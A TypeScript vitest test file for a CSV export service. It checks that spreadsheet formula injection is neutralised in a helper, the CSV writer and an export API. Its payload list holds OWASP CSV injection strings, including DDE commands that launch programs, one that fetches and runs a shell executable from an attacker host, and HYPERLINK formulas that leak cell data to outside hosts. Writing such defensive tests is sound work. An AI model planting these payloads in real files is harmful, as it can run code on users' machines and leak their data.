import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { neutraliseFormula } from "../../src/services/exports/neutraliseFormula.ts";
import { writeCsv } from "../../src/services/exports/writeCsv.ts";
import { startTestServer, type TestServer } from "../harness/index.ts";
import { buildImportWorld, type ImportWorld, METRICS } from "../imports/buildImportWorld.ts";

/**
 * OWASP's CSV Injection examples (owasp.org/www-community/attacks/CSV_Injection) and the payload
 * list it points to (payloadbox/csv-injection-payloads), the `-` payloads the probe of this API
 * got through, and the other starts a spreadsheet reads as a formula.
 */
const FORMULA_PAYLOADS = [
  // OWASP
  '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  "+cmd|' /C calc'!A0",
  // what the probe got through the old `-` rule
  "-2+3+cmd|' /C calc'!A0",
  "-1+1",
  "-.5+cmd|' /C calc'!A0",
  '-1+HYPERLINK("http://evil.example")',
  // tab, carriage return, line feed, full-width and small forms, and spaces before the sign
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1+1)",
  "﹦1+1",
  " =1+1",
  "\u00A0@SUM(1)",
];

const PLAIN_TEXT = ["County hub", "Q4 2023", "rate per 1,000", "e-mail", "a=b", "x@y.example", ""];
const NUMBERS_AS_TEXT = ["-2", "-0.5", "+3", "1435", "1e-3", ".5"];

describe("neutraliseFormula (OWASP CSV Injection table)", () => {
  it.each(FORMULA_PAYLOADS)("defuses %j", (payload) => {
    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
  });

  it.each([...PLAIN_TEXT, ...NUMBERS_AS_TEXT])("leaves %j as it is", (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });
});

describe("writeCsv", () => {
  const sheet = {
    name: "Observations",
    columns: ["value", "note", "illustrative"],
    rows: [
      ...FORMULA_PAYLOADS.map((note, index) => ({
        value: -index - 0.5,
        note,
        illustrative: index % 2 === 0,
      })),
      { value: null, note: 'DDE ("cmd";"/C calc";"!A0")A0', illustrative: false },
    ],
  };
  const text = writeCsv(sheet);
  const records = parse(text, { columns: true, relax_column_count: false }) as Record<string, string>[];

  it("writes numbers as numbers, negative ones included, and gaps empty", () => {
    expect(text.startsWith("value,note,illustrative\r\n-0.5,")).toBe(true);
    expect(records.map((r) => r.value)).toEqual([...FORMULA_PAYLOADS.map((_, i) => String(-i - 0.5)), ""]);
  });

  it("every formula payload reads back as the same text behind an apostrophe", () => {
    expect(records.slice(0, -1).map((r) => r.note)).toEqual(FORMULA_PAYLOADS.map((p) => `'${p}`));
    expect(records.map((r) => r.illustrative).slice(0, 2)).toEqual(["true", "false"]);
  });

  it("quotes a cell holding a semicolon, so a ';'-separated reader cannot split a formula out of it", () => {
    expect(text).toContain('"DDE (""cmd"";""/C calc"";""!A0"")A0"');
  });
});

describe("GET /api/exports/metric/<id>.csv", () => {
  let server: TestServer;
  let world: ImportWorld;
  beforeAll(async () => {
    server = await startTestServer();
    world = await buildImportWorld(server);
    await server.db.prisma.observation.createMany({
      data: FORMULA_PAYLOADS.map((note, index) => ({
        metricId: METRICS.answerTime.id,
        areaId: world.areaIds.force,
        breakdown: `payload-${String(index).padStart(2, "0")}`,
        periodStart: new Date("2023-03-01"),
        periodEnd: new Date("2023-03-01"),
        value: -index,
        note,
        sourceRelease: "-1+1",
      })),
    });
  });
  afterAll(async () => {
    await server?.close();
  });

  it("defuses every note and source, and keeps the values numbers", async () => {
    const response = await fetch(`${server.url}/api/exports/metric/${METRICS.answerTime.id}.csv`);
    expect(response.status).toBe(200);
    const records = parse((await response.text()).replace(/^\uFEFF/, ""), { columns: true }) as Record<
      string,
      string
    >[];
    expect(records.map((r) => r.note)).toEqual(FORMULA_PAYLOADS.map((p) => `'${p}`));
    expect(records.map((r) => r.value)).toEqual(FORMULA_PAYLOADS.map((_, i) => String(-i)));
    expect(new Set(records.map((r) => r.source))).toEqual(new Set(["'-1+1"]));
  });
});
